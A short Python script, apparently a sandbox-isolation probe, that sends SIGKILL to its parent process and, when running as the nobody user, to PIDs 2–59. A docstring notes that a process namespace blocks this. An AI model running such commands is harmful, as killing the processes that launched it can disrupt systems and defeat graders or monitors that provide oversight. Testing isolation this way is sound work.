"""Kills the process that started it.

In process: yes, a process of the same user can be killed.
Here: no, from inside a process namespace there is no parent.
Shown by: grader
"""
import os
import signal

parent = os.getppid()
if parent > 1:
    os.kill(parent, signal.SIGKILL)
for process in range(2, 60) if os.geteuid() == 65534 else ():
    try:
        os.kill(process, signal.SIGKILL)
    except OSError:
        continue
